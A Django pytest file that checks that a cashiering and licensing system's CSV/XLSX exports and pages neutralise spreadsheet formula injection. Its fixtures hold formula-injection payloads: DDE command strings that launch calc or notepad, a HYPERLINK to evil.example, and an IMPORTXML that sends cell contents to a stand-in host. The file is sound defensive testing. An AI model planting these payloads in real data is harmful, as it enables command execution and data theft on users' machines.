"""Text typed or imported as a formula (=, +, -, @, tab, CR first) comes out of every CSV
and XLSX download as inert text, and pages show it as text.

The walk names every download the project serves: a new export URL without a row in
EXPORTS fails `test_every_export_is_walked`, so it is held to the same rule."""

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from cashiering.services.refunds import refund_approve, refund_request_create, refund_verify
from kent_cs.models import Job
from kent_cs.reports import FORMULA_PREFIXES
from ledger.models import GLAccount
from licensing.imports import license_import
from licensing.models import LicenseImport, LicenseType
from licensing.renewals import renewal_invoice_create
from tests.cashiering.factories import counter_setup, make_account, open_session, post, utility
from tests.cashiering.returns_factories import technician_b
from tests.factories import TODAY
from tests.licensing.factories import defaults, make_business, make_license
from tests.test_url_personas import _url_names

D = Decimal
pytestmark = pytest.mark.django_db
IMMEDIATE = {"default": {"BACKEND": "django.tasks.backends.immediate.ImmediateBackend"}}

# What a payer, a billing file or a license import can carry, one of each dangerous start.
PAYER = '=HYPERLINK("http://evil.example/","Pay here")'
MEMO = "+1+cmd|' /C calc'!A0"
ACCOUNT_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
LEGAL_NAME = "=cmd|' /C notepad'!A0 LLC"
TRADE_NAME = "-2+3+cmd|' /C calc'!A0"
ADDRESS = "\t=1+1 Railroad Ave"
REFUND_PAYEE = "\r=2+5 Lee Mover"
TYPE_NAME = '=IMPORTXML(CONCAT("http://x/",A1),"//a")'
GL_NAME = "-IMPORTRANGE(A1) Undeposited receipts"

# Export URL name -> (method, args, query, whether seeded formula text must appear in it).
_NOW = timezone.localdate().isoformat()  # refunds are requested on the real date
EXPORTS = {
    "audit:report-xlsx": (
        "get",
        lambda s: ["refunds-write-offs"],
        {"date_from": _NOW, "date_to": _NOW},
        True,
    ),
    "audit:chain-digest-csv": ("get", lambda s: [], {}, False),
    "cashiering:audit-report-csv": ("get", lambda s: [TODAY.isoformat()], {}, True),
    "cashiering:refund-export": ("post", lambda s: ["csv"], {}, True),
    "cashiering:refund-batch": ("get", lambda s: [s["batch"], "xlsx"], {}, True),
    "ledger:trial-balance-xlsx": ("get", lambda s: [s["period"]], {}, True),
    "ledger:trial-balance-export": ("job", lambda s: [s["period"]], {}, True),
    "licensing:report-growth-xlsx": ("get", lambda s: [], {"first_year": 2025}, False),
    "licensing:renewals-outstanding-export": ("get", lambda s: ["csv"], {"year": 2026}, True),
    "licensing:delinquency-export": ("get", lambda s: ["xlsx"], {}, True),
    "licensing:license-import-template-download": ("get", lambda s: ["xlsx"], {}, False),
    "licensing:license-import-refused-csv": ("get", lambda s: [s["import"]], {}, True),
    "licensing:business-dossier-xlsx": ("get", lambda s: [s["business"].pk], {}, True),
}
# Downloads only a technician may fetch (the others are fetched as a supervisor).
TECHNICIAN_EXPORTS = {
    "licensing:license-import-template-download",
    "licensing:license-import-refused-csv",
}
REPORT_TABLES = {
    "new-licenses": {"first_year": 2025},
    "active-licenses": {"first_year": 2025},
    "revenue-by-type": {"first_year": 2025},
    "revenue-by-sector": {"first_year": 2025},
    "renewals": {"year": 2026},
    "delinquency": {},
}
# The report tables that carry typed text (the others are counts by month and year; the
# delinquency CSV is its summary by age, the XLSX adds the invoices).
TYPED_IN_TABLES = {
    ("revenue-by-type", "csv"),
    ("revenue-by-type", "xlsx"),
    ("revenue-by-sector", "csv"),
    ("revenue-by-sector", "xlsx"),
    ("renewals", "csv"),
    ("renewals", "xlsx"),
    ("delinquency", "xlsx"),
}
# Downloads that are not exports of records: a job's stored file, a refund's own document,
# the kept copy of a scheduled report (rendered by the report exports walked here).
NOT_EXPORTS = {"job-download", "cashiering:refund-document", "audit:delivery-download"}
EXPORT_NAME = re.compile(r"(csv|xlsx|export|batch|download|document)$")


def test_every_export_is_walked():
    found = {name for name in _url_names() if EXPORT_NAME.search(name)}
    walked = set(EXPORTS) | {"licensing:report-csv", "licensing:report-xlsx"} | NOT_EXPORTS
    assert found == walked


@pytest.fixture
def scene(settings, cashier, technician, supervisor):
    settings.TASKS = IMMEDIATE
    defaults()  # the license types, which a transaction=True test run before may truncate
    counter = counter_setup()
    account = make_account("104455-01", balance="120.00", name=ACCOUNT_NAME)
    session = open_session(cashier)
    receipt = post(
        session, [utility(account.number, "20.00")], [counter.cash("20.00")], payer=PAYER, memo=MEMO
    )
    # A refund of a credit, to the payee as typed.
    credit = make_account("300100-01", balance="-90.00", name=ACCOUNT_NAME)
    refund = refund_request_create(
        kind="utility",
        ref=credit.number,
        payee_name=REFUND_PAYEE,
        payee_address=ADDRESS,
        amount=D("30.00"),
        reason=MEMO,
        user=technician,
    )
    refund_verify(refund=refund, user=technician_b())
    refund_approve(refund=refund, user=supervisor, note="")
    # The chart as an administrator typed it; licenses as a city's file carried them.
    GLAccount.objects.filter(pk=counter.accounts["001.101.20"].pk).update(name=GL_NAME)
    LicenseType.objects.filter(code="GEN").update(name=TYPE_NAME)
    business = make_business(legal_name=LEGAL_NAME, trade_name=TRADE_NAME, location_line1=ADDRESS)
    license = make_license(business, year=2025)
    renewal_invoice_create(license=license, year=2026, user=technician)
    make_license(
        make_business(legal_name=LEGAL_NAME + " II"), year=2026, issued_on=date(2026, 2, 3)
    )
    from ledger.models import AccountingPeriod

    # A city's file whose refused line carries formula text, handed back to be corrected.
    refused_line = (
        "Business Name,DBA,UBI,NAICS,Address,ZIP,Type,Year,Status\n"
        f'"{LEGAL_NAME}",{TRADE_NAME},60210,722511,"{ADDRESS}",98032,GEN,2026,Active\n'
    )
    imported = license_import(
        source=refused_line.encode(),
        user=technician,
        dry_run=False,
        mode=LicenseImport.Mode.GOOD_ROWS,
    )

    return {
        "import": imported.record.pk,
        "period": AccountingPeriod.objects.get(year=TODAY.year, month=TODAY.month).pk,
        "batch": None,
        "refund": refund,
        "receipt": receipt,
        "business": business,
    }


def _cells(response) -> list[str]:
    """Every text cell of a CSV or XLSX download."""
    content_type = response["Content-Type"]
    if content_type.startswith("text/csv"):
        text = response.content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert "spreadsheetml" in content_type, content_type
    book = load_workbook(io.BytesIO(response.content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


def _is_number(text: str) -> bool:
    try:
        D(text.replace(",", ""))
    except ArithmeticError:
        return False
    return True


def _live(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would read as a formula (a plain negative number is a number)."""
    return [c for c in cells if c.startswith(FORMULA_PREFIXES) and not _is_number(c)]


SEEDED = ("HYPERLINK", "cmd|", "IMPORT", "SUM(", "=1+1", "=2+5")


def _seeded(cells: list[str]) -> list[str]:
    """Cells that carry some of the seeded text (escaped where it led the cell)."""
    return [c for c in cells if any(mark in c for mark in SEEDED)]


def _fetch(client, name, method, args, query, capture):
    url = reverse(name, args=args)
    if method == "get":
        return client.get(url, query)
    if method == "post":
        return client.post(url, query)
    with capture(execute=True):  # a background job: its file is fetched from the job
        client.post(url, query)
    job = Job.objects.latest("pk")
    assert job.status == Job.Status.SUCCEEDED, job.message
    return client.get(reverse("job-download", args=[job.pk]))


def test_every_export_writes_formula_text_as_inert_text(
    client, scene, supervisor, technician, django_capture_on_commit_callbacks
):
    walked = []
    ordered = sorted(EXPORTS, key=lambda name: name != "cashiering:refund-export")
    for name in ordered:  # the refund export first: its batch is downloaded again
        method, args, query, _typed = EXPORTS[name]
        if name == "cashiering:refund-batch":
            scene["refund"].refresh_from_db()
            scene["batch"] = scene["refund"].export_batch
        client.force_login(technician if name in TECHNICIAN_EXPORTS else supervisor)
        response = _fetch(
            client, name, method, args(scene), query, django_capture_on_commit_callbacks
        )
        assert response.status_code == 200, (name, response.status_code)
        walked.append((name, response))
    client.force_login(supervisor)
    for slug, query in REPORT_TABLES.items():
        for fmt in ("csv", "xlsx"):
            name = f"licensing:report-{fmt}"
            response = client.get(reverse(name, args=[slug]), query)
            assert response.status_code == 200, (name, slug)
            walked.append((f"{name} {slug} {fmt}", response))
    missing = []
    for label, response in walked:
        cells = _cells(response)
        assert cells, label
        assert _live(cells) == [], label
        name = label.split()[0]
        typed = label.split()[1] in TYPED_IN_TABLES if " " in label else EXPORTS[name][3]
        if typed and not _seeded(cells):
            missing.append(label)
    assert missing == [], "the seeded formula text is not in these downloads"


def test_pages_show_formula_text_as_text(client_for, scene, supervisor, technician):
    """Pages escape it like any text: the quotes of a HYPERLINK never become markup."""
    receipt_page = client_for(supervisor).get(
        reverse("cashiering:receipt-detail", args=[scene["receipt"].pk])
    )
    business_page = client_for(technician).get(
        reverse("licensing:business-detail", args=[scene["business"].pk])
    )
    refund_page = client_for(supervisor).get(
        reverse("cashiering:refund-detail", args=[scene["refund"].pk])
    )
    pages = [receipt_page, business_page, refund_page]
    assert [page.status_code for page in pages] == [200, 200, 200]
    html = receipt_page.content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/&quot;,&quot;Pay here&quot;)" in html
    assert "+1+cmd|&#x27; /C calc&#x27;!A0" in html
    assert 'href="http://evil.example/"' not in html
    assert "=cmd|&#x27; /C notepad&#x27;!A0 LLC" in business_page.content.decode()
    assert "=2+5 Lee Mover" in refund_page.content.decode()
